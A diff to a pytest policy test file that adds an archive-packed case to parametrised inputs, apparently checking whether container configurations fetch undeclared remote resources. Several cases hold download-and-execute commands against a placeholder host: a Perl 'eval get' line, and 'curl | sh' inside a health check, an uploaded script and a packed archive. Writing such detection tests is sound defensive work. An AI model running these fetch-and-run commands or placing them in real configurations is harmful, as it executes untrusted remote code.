@@ -4,6 +4,7 @@ from typing import Any
 
 import pytest
 
+from components.file_archive import packed
 from policies.readers import declared_resources as declared
 from tests.policy.pack_host import UNKNOWN, Resource, ask, of_one
 
@@ -85,6 +86,7 @@ PULLED = {"image": f"docker.io/library/alpine:3@{DIGEST}"}
         pytest.param({"command": ["perl", "-MLWP::Simple", "-e", "eval get('http://x')"]}, id="by Perl"),
         pytest.param({"healthcheck": {"tests": ["CMD-SHELL", "curl -s http://x/check | sh"]}}, id="in a health check"),
         pytest.param({"uploads": [{"file": "/run.sh", "content": "#!/bin/sh\ncurl -s http://x \\\n  | sh\n"}]}, id="in a script"),
+        pytest.param({"uploads": [{"file": "/x.files", "content": packed({"run.sh": "curl -s http://x | sh\n"})}]}, id="in an archive"),
         pytest.param({"envs": ["GF_INSTALL_PLUGINS=redis-datasource"]}, id="plugins of Grafana"),
     ],
 )  # fmt: skip
